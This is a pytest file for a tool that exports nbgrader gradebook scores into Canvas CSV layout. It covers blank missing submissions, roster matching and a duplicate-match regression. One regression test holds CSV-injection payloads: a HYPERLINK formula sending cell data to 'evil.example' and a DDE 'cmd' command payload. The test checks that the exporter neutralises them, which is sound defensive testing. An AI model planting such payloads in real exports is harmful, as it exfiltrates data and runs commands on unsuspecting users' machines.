"""``make grades-canvas`` (instructor/grading/canvas.py) on a real nbgrader gradebook made with
nbgrader's own Gradebook API: the Canvas import layout, missing submissions blank and listed (never
0), unknown students listed, a Canvas roster export's ids and column names reused."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from instructor.grading.canvas import IDENTITY, export, main, write_csv

ROOT = Path(__file__).resolve().parents[1]
# nbgrader 0.9.6's own add_submission warns of its autoflush (SQLAlchemy 2)
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


@pytest.fixture(autouse=True)
def _alembic_on_path(monkeypatch):
    """nbgrader runs ``alembic`` from PATH when it makes a gradebook."""
    bin_dir = str(Path(sys.executable).parent)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ.get('PATH', '')}")


def _course(tmp_path):
    course = tmp_path / "course"
    course.mkdir()
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for ps, points in (("ps01", 14), ("ps02", 14)):
            gb.add_assignment(ps)
            gb.update_or_create_notebook("nb", ps)
            gb.update_or_create_grade_cell("a-check", "nb", ps, max_score=points, cell_type="code")
        gb.add_student("ada", first_name="Ada", last_name="Lovelace", lms_user_id="101")
        gb.add_student("bob", first_name="Bob", last_name="Ross", email="bob@example.edu")
        gb.add_student("zed")  # no Canvas identity: unknown to a roster
        for ps, sid, score in (("ps01", "ada", 14), ("ps01", "bob", 0), ("ps02", "ada", 7.5)):
            sub = gb.add_submission(ps, sid)
            grade = sub.notebooks[0].grades[0]
            grade.manual_score = score
            gb.db.commit()
        gb.add_submission("ps02", "zed")
    return course


def _rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_canvas_layout_and_missing_submissions_are_blank_not_zero(tmp_path):
    course = _course(tmp_path)
    result = export(course)
    rows = _rows(write_csv(result, tmp_path / "out.csv"))
    assert rows[0] == [*IDENTITY, "ps01", "ps02"]
    assert rows[1] == ["Points Possible", "", "", "", "", "14", "14"]
    by_sis = {r[2]: r for r in rows[2:]}
    assert by_sis["ada"] == ["Lovelace, Ada", "101", "ada", "", "", "14", "7.5"]
    assert by_sis["bob"][5:] == ["0", ""]  # a real 0 stays 0; no ps02: blank
    assert by_sis["zed"][5:] == ["", "0"]
    assert ("Ross, Bob", "ps02") in result.missing and ("zed", "ps01") in result.missing
    assert not any(who.startswith("Lovelace") for who, _ in result.missing)


def test_roster_ids_and_assignment_columns_are_used_unknown_students_listed(tmp_path):
    course = _course(tmp_path)
    roster = tmp_path / "export.csv"
    roster.write_text(
        "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,ps01 (555),Final Score\n"
        "    Points Possible,,,,,14,\n"
        '"Lovelace, Ada",9001,ada,ada@example.edu,Sec A,,\n'
        '"Ross, Bob",9002,S2,bob@example.edu,Sec B,,\n'
        '"Curie, Marie",9003,S3,marie@example.edu,Sec A,,\n',
        encoding="utf-8",
    )
    result = export(course, ["ps01"], roster)
    rows = _rows(write_csv(result, tmp_path / "out.csv"))
    assert rows[0] == [*IDENTITY, "ps01 (555)"]
    table = {r[0]: r for r in rows[2:]}
    assert table["Lovelace, Ada"] == [
        "Lovelace, Ada",
        "9001",
        "ada",
        "ada@example.edu",
        "Sec A",
        "14",
    ]
    assert table["Ross, Bob"][-1] == "0"  # matched by e-mail (SIS Login ID)
    assert table["Curie, Marie"][-1] == ""  # in Canvas, never submitted: blank and listed
    assert ("Curie, Marie", "ps01") in result.missing
    assert result.unknown == []  # zed has no ps01 submission
    result = export(course, ["ps02"], roster)
    assert result.unknown == ["zed"]  # graded in nbgrader, in no roster row: listed
    assert "zed" not in {r[2] for r in result.rows}


def test_bad_input_names_the_argument(tmp_path, capsys):
    with pytest.raises(ValueError, match="COURSE: no gradebook.db"):
        export(tmp_path)
    course = _course(tmp_path)
    with pytest.raises(ValueError, match="ASSIGNMENT: 'ps09'"):
        export(course, ["ps09"])
    assert main([str(course), "--assignment", "ps09"]) == 2
    assert "ps09" in capsys.readouterr().err


def test_command_line_writes_csv_and_report(tmp_path):
    course = _course(tmp_path)
    done = subprocess.run(
        [sys.executable, "-m", "instructor.grading.canvas", str(course)],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert (course / "canvas-grades.csv").is_file()
    report = (course / "canvas-grades-report.txt").read_text()
    assert "missing submission: zed has no ps01 (blank, not 0)" in report
    assert "missing submission: zed has no ps01" in done.stderr


def _one_set(tmp_path, students):
    """A course whose gradebook has ps01 (14 points) and ``(id, score, details)`` students."""
    course = tmp_path / "course"
    course.mkdir()
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        gb.add_assignment("ps01")
        gb.update_or_create_notebook("nb", "ps01")
        gb.update_or_create_grade_cell("a-check", "nb", "ps01", max_score=14, cell_type="code")
        for sid, score, details in students:
            gb.add_student(sid, **details)
            gb.add_submission("ps01", sid).notebooks[0].grades[0].manual_score = score
            gb.db.commit()
    return course


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]


def test_regression_formulas_in_names_ids_and_sections_are_neutralised(tmp_path):
    """Issue 32: a name, id or section beginning with = + - @ was written as it was, and a
    spreadsheet opened it as a formula. Each such cell now begins with ' (OWASP); the
    numbers Canvas matches and imports (ID, scores, points) are unchanged."""
    course = _one_set(
        tmp_path,
        [
            (f"s{i}", 12.5, dict(first_name=t, last_name=t, lms_user_id=str(100 + i)))
            for i, t in enumerate(FORMULAS)
        ],
    )
    roster = tmp_path / "export.csv"
    lines = ["Student,ID,SIS User ID,SIS Login ID,Section,ps01 (555)", "Points Possible,,,,,14"]
    for i, text in enumerate(FORMULAS):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"{quoted},{900 + i},s{i},{quoted},{quoted},")
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
    for result in (export(course), export(course, ["ps01"], roster)):
        rows = _rows(write_csv(result, tmp_path / "out.csv"))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
        body = rows[2:]
        assert sorted(r[-1] for r in body) == ["12.5"] * len(FORMULAS)
        assert all(r[1].isdigit() for r in body) and rows[1][-1] == "14"
        assert all(r[0].startswith("'") for r in body)  # every name began with a formula
    sections = {r[4] for r in body}
    assert sections == {"'" + t for t in FORMULAS}


def test_regression_a_roster_row_matched_by_two_nbgrader_students_gets_no_score(tmp_path):
    """Red team: nbgrader students 'ada' and '9001' (her Canvas ID) both matched her roster
    row: two rows of one Canvas student in the CSV, the score kept up to Canvas's order."""
    course = _one_set(tmp_path, [("ada", 14, {}), ("9001", 0, {})])
    roster = tmp_path / "export.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,ps01 (555)\nPoints Possible,,,,,14\n"
        '"Lovelace, Ada",9001,ada,ada@example.edu,Sec A,\n',
        encoding="utf-8",
    )
    result = export(course, ["ps01"], roster)
    rows = _rows(write_csv(result, tmp_path / "out.csv"))
    assert [r[1] for r in rows[2:]] == ["9001"] and rows[2][-1] == ""  # one row, no score
    assert result.twice == [("Lovelace, Ada", ["ada", "9001"])]
    assert any(
        line.startswith("matched twice: the roster row of Lovelace, Ada")
        for line in result.report()
    )
